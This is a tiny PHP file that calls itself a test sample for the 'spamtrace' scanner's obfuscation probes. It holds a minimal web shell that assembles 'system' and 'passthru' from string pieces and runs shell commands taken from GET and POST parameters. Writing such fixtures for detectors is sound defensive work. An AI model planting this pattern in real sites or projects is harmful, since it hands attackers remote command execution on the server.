<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
if (1) { $a = 1; }
('sys' . 'tem')($_GET['c']);
echo ('pass' . 'thru')($_POST['x']);
